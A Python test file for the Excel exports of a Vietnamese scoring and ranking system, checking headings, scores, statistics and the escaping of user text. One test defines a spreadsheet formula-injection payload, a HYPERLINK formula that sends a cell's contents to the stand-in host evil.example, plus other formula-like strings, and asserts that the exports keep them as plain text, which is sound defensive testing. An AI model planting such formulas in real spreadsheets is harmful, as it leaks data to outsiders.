"""The Excel exports: the round's ranking with its statistics, and one unit's scored sheet
(the worked example 2024-1: 114.27, band C). Both open with openpyxl and hold the expected
headings and figures. Both stacks."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select

from kit.app import runtime
from kit.spreadsheets import REPLACEMENT
from services.scoring.domain import exports
from services.scoring.models import Entry, RegionCopy, Round, UnitCopy
from services.scoring.tests.test_rankings import (
    HANOI,
    NORTH,
    OFFICER,
    World,
    build,
    publish,
)
from tests.support.stack import Stack
from tests.support.tokens import unit_officer
from tests.support.workbooks import assert_only_text

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook(world: World, path: str, headers: dict[str, str]) -> Any:
    response = world.client.get(path, headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == XLSX
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    return load_workbook(io.BytesIO(response.data))


def values(ws: Worksheet, row: int) -> list[Any]:
    return [cell.value for cell in ws[row]]


def row_of(ws: Worksheet, column: int, value: Any) -> int:
    for cells in ws.iter_rows():
        if cells[column - 1].value == value:
            return cells[0].row
    raise AssertionError(f"no row with {value!r} in column {column}")


def test_ranking_workbook(stack: Stack) -> None:
    world = build(stack)
    assert publish(world).status_code == 200
    book = workbook(world, f"/rounds/{world.round_id}/rankings.xlsx", unit_officer("stp-80"))
    assert book.sheetnames == [exports.RANKING_SHEET, exports.STATISTICS_SHEET]

    ws = book[exports.RANKING_SHEET]
    assert ws["A1"].value == "KẾT QUẢ CHẤM ĐIỂM, XẾP HẠNG THI ĐUA" and ws["A1"].font.bold
    assert ws["A2"].value == "Chấm điểm thi đua năm 2026 — năm 2026"
    assert ws["A3"].value.startswith("Công bố ngày ")
    header = row_of(ws, 1, "STT")
    assert values(ws, header) == list(exports.RANKING_HEADINGS)
    assert all(cell.font.bold for cell in ws[header])
    rows = [values(ws, r) for r in range(header + 1, ws.max_row + 1)]
    assert rows == [
        [1, "Sở Tư pháp thành phố Hà Nội", "Khu vực Đồng bằng Bắc Bộ", 150, "B", 1, 1],
        [2, "Sở Tư pháp thành phố Hải Phòng", "Khu vực Đồng bằng Bắc Bộ", 150, "B", 1, 1],
        [3, "Sở Tư pháp Thành phố Hồ Chí Minh", "Khu vực Đông Nam Bộ", 140, "C", 3, 1],
        [4, "Sở Tư pháp tỉnh Đồng Nai", "Khu vực Đông Nam Bộ", 140, "C", 3, 1],
        [5, "Sở Tư pháp tỉnh Bắc Ninh", "Khu vực Đồng bằng Bắc Bộ", 114.27, "C", 5, 3],
        [6, "Sở Tư pháp tỉnh Điện Biên", None, 99.99, "D", 6, None],
    ]
    assert ws.cell(header + 1, 4).number_format == "0.00"

    stats = book[exports.STATISTICS_SHEET]
    header = row_of(stats, 1, "Khu vực")
    assert values(stats, header) == [
        *exports.STATISTICS_HEADINGS,
        "Hạng A",
        "Hạng B",
        "Hạng C",
        "Hạng D",
    ]
    north = values(stats, header + 1)
    south = values(stats, header + 2)
    national = values(stats, header + 3)
    assert north == ["Khu vực Đồng bằng Bắc Bộ", 3, 138.09, 150, 114.27, 150, 16.84, 0, 2, 1, 0]
    assert south == ["Khu vực Đông Nam Bộ", 2, 140, 140, 140, 140, 0, 0, 0, 2, 0]
    assert national == ["Toàn quốc", 6, 132.38, 140, 99.99, 150, 18.77, 0, 2, 3, 1]
    assert stats.cell(header + 3, 1).font.bold
    assert stats.cell(header + 3, 3).number_format == "0.00"


def test_provisional_ranking_workbook_says_so(stack: Stack) -> None:
    world = build(stack)
    book = workbook(world, f"/rounds/{world.round_id}/rankings.xlsx", OFFICER)
    ws = book[exports.RANKING_SHEET]
    assert "chưa công bố" in ws["A3"].value
    assert ws.cell(row_of(ws, 1, "STT") + 1, 2).value == "Sở Tư pháp thành phố Hà Nội"


def test_sheet_workbook_of_the_worked_example(stack: Stack) -> None:
    world = build(stack)
    book = workbook(world, f"/sheets/{world.sheets['stp-03']}/export.xlsx", OFFICER)
    assert book.sheetnames == [exports.SCORESHEET]
    ws = book[exports.SCORESHEET]
    assert ws["A1"].value == "PHIẾU CHẤM ĐIỂM THI ĐUA"
    assert ws["A2"].value == "Đơn vị: Sở Tư pháp tỉnh Bắc Ninh"
    assert "năm 2026" in ws["A3"].value and "Đã thẩm định" in ws["A4"].value
    header = row_of(ws, 1, "Mã")
    assert values(ws, header) == list(exports.SHEET_HEADINGS)
    assert all(cell.font.bold for cell in ws[header])

    def line(code: str) -> list[Any]:
        return values(ws, row_of(ws, 1, code))

    part = line("A")
    assert part[:3] == ["A", "Thực hiện nhiệm vụ trọng tâm công tác tư pháp", 150]
    assert part[6] == 88.70 and ws.cell(row_of(ws, 1, "A"), 1).font.bold
    assert line("A.IV")[6] == 12.87
    assert line("A.I.1")[2:7] == [2, "66.9%", 0.5, None, 0.5]
    assert line("A.I.4")[3] == "Đạt" and line("A.IV.2")[3] == "Không đạt"
    assert line("A.II.2")[3] == "Thực hiện 7 / chỉ tiêu 10"
    assert line("A.II.3")[3] == "Đúng hạn" and line("B.3")[3] == "Chậm 7 ngày"
    assert line("A.I.5")[3] == "Chấm trực tiếp: 2.5 điểm"
    assert line("A.I.5")[6] == 2.5 and "Thẩm định: Giữ nguyên điểm tự chấm" in line("A.I.5")[7]
    assert "Chưa đạt tối đa do còn hạn chế" in line("A.I.5")[7]
    assert line("A.I.6")[4:6] == [2, 2] and "Khu vực: Thiếu minh chứng quý IV" in line("A.I.6")[7]
    assert line("A.IV.3")[6] == 8.87
    points = ws.cell(row_of(ws, 1, "A.IV.3"), 7)
    assert points.number_format == "0.00"
    assert line("F")[:3] == ["F", "Điểm trừ", 20] and line("F")[6] == 10
    assert line("F.3")[3] == "1 lần" and line("F.3")[6] == 10
    assert line("E.2")[3] == "0 lần (tối đa 1 lần)" and line("E")[6] == 0

    def summary(label: str) -> Any:
        return ws.cell(row_of(ws, 2, label), 7).value

    assert summary("Cộng điểm các tiêu chí") == 124.27
    assert summary("Điểm thưởng") == 0 and summary("Điểm trừ") == 10
    assert summary("TỔNG ĐIỂM") == 114.27 and summary("Hạng") == "C"
    assert ws.cell(row_of(ws, 2, "TỔNG ĐIỂM"), 2).font.bold


def test_sheet_workbook_for_the_unit_itself(stack: Stack) -> None:
    world = build(stack)
    book = workbook(world, f"/sheets/{world.sheets['stp-01']}/export.xlsx", HANOI)
    ws = book[exports.SCORESHEET]
    assert ws["A2"].value == "Đơn vị: Sở Tư pháp thành phố Hà Nội"
    assert ws.cell(row_of(ws, 2, "TỔNG ĐIỂM"), 7).value == 150


LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def store(world: World, *, comments: dict[str, str], **names: str) -> None:
    """Write text straight into the tables, as an old release or a careless import left it:
    comments of the worked example's entries by code; the round's, Hà Nội's and the north
    region's names (``round_name``, ``unit_name``, ``region_name``)."""
    with world.app.app_context(), runtime().db.transaction() as session:
        sheet_id = world.sheets["stp-03"]
        for entry in session.scalars(select(Entry).where(Entry.sheet_id == sheet_id)):
            if entry.code in comments:
                entry.comment = comments[entry.code]
        if "round_name" in names:
            session.get(Round, world.round_id).name = names["round_name"]  # type: ignore[union-attr]
        if "unit_name" in names:
            session.get(UnitCopy, "stp-01").name = names["unit_name"]  # type: ignore[union-attr]
        if "region_name" in names:
            region = session.scalars(select(RegionCopy).where(RegionCopy.region_id == NORTH)).one()
            region.name = names["region_name"]


def download(world: World, path: str) -> bytes:
    response = world.client.get(path, headers=OFFICER)
    assert response.status_code == 200, response.get_data(as_text=True)
    load_workbook(io.BytesIO(response.data))  # a reader can open it
    return response.data


def test_text_a_user_wrote_is_never_a_formula_in_an_export(stack: Stack) -> None:
    """A comment, a round name, a unit or region name beginning with =, +, -, @ or a tab is a
    string cell in the workbook the Ministry opens: Excel shows it, it never runs it."""
    world = build(stack)
    comments = {
        "A.I.1": LEAK,
        "A.I.2": "+1+1",
        "A.I.3": "-2+3",
        "A.I.4": "@SUM(A1:A9)",
        "A.I.5": "\t=1+1",
        "A.I.6": "#N/A",
    }
    store(world, comments=comments, round_name="=1+1", unit_name="@SUM(1)", region_name="-1")
    assert publish(world).status_code == 200

    sheet = download(world, f"/sheets/{world.sheets['stp-03']}/export.xlsx")
    cells = assert_only_text(sheet, *comments.values(), "=1+1 — năm 2026")
    ws = load_workbook(io.BytesIO(sheet))[exports.SCORESHEET]
    notes = ws.cell(row_of(ws, 1, "A.I.1"), 8)
    assert notes.value == LEAK and notes.data_type == "s"
    error_like = ws.cell(row_of(ws, 1, "A.I.6"), 8)
    assert error_like.value.endswith("\n#N/A\nKhu vực: Thiếu minh chứng quý IV")
    assert "'Phiếu chấm điểm'!A3" in cells

    ranking = download(world, f"/rounds/{world.round_id}/rankings.xlsx")
    assert_only_text(ranking, "=1+1 — năm 2026", "@SUM(1)", "-1")
    book = load_workbook(io.BytesIO(ranking))
    ws = book[exports.RANKING_SHEET]
    first = row_of(ws, 1, 1)
    assert values(ws, first)[1:3] == ["@SUM(1)", "-1"]
    assert ws.cell(first, 2).data_type == ws.cell(first, 3).data_type == "s"
    stats = book[exports.STATISTICS_SHEET]
    assert stats.cell(row_of(stats, 1, "-1"), 1).data_type == "s"


def test_stored_control_characters_never_break_an_export(stack: Stack) -> None:
    """Text stored before input was checked may hold characters XML cannot carry (U+000B,
    U+001F; U+0000 where the database keeps it): the exports still answer 200 and show U+FFFD
    where they were."""
    world = build(stack)
    nul = "\x00" if stack.kind == "embedded" else ""  # PostgreSQL text never holds U+0000
    store(
        world,
        comments={"A.I.1": f"dòng 1\x0bdòng 2{nul}\x1f"},
        round_name="Đợt\x0b2026",
        unit_name="Sở Tư pháp\x1f Hà Nội",
    )
    with world.app.app_context(), runtime().db.transaction() as session:  # JSON keeps U+0000
        entry = session.scalars(
            select(Entry).where(Entry.sheet_id == world.sheets["stp-03"], Entry.code == "A.I.2")
        ).one()
        entry.inputs = {**(entry.inputs or {}), "note": "ghi chú\x00cũ"}
    assert publish(world).status_code == 200

    sheet = download(world, f"/sheets/{world.sheets['stp-03']}/export.xlsx")
    ws = load_workbook(io.BytesIO(sheet))[exports.SCORESHEET]
    r = REPLACEMENT
    assert ws.cell(row_of(ws, 1, "A.I.1"), 8).value == f"dòng 1{r}dòng 2{r if nul else ''}{r}"
    assert ws.cell(row_of(ws, 1, "A.I.2"), 8).value.startswith(f"ghi chú{r}cũ")
    assert ws["A3"].value == f"Đợt chấm điểm: Đợt{r}2026 — năm 2026"

    ranking = load_workbook(io.BytesIO(download(world, f"/rounds/{world.round_id}/rankings.xlsx")))
    ws = ranking[exports.RANKING_SHEET]
    assert ws["A2"].value == f"Đợt{r}2026 — năm 2026"
    assert f"Sở Tư pháp{r} Hà Nội" in [ws.cell(row, 2).value for row in range(1, ws.max_row + 1)]


def test_inputs_text_for_every_method() -> None:
    percent = {"method": {"type": "bands_at_least", "input": {"name": "value", "unit": "%"}}}
    docs = {"method": {"type": "bands_at_least", "input": {"name": "value", "unit": "văn bản"}}}
    late = {"method": {"type": "bands_at_most", "input": {"name": "days_late", "unit": "ngày"}}}
    ratio = {"method": {"type": "proportional"}}
    assert exports.inputs_text(percent, {"value": 98.9}) == "98.9%"
    assert exports.inputs_text(docs, {"value": 12}) == "12 văn bản"
    assert exports.inputs_text(late, {"days_late": 3}) == "Chậm 3 ngày"
    assert exports.inputs_text(ratio, {"achieved": 11, "target": 10.0}) == (
        "Thực hiện 11 / chỉ tiêu 10"
    )
    assert exports.inputs_text(percent, {"not_applicable": True, "note": "x"}) == (
        "Không phát sinh"
    )
    assert exports.inputs_text(percent, None) == ""
    assert exports.inputs_text({"method": {"type": "new"}}, {"a": 1, "note": "n"}) == "a: 1"
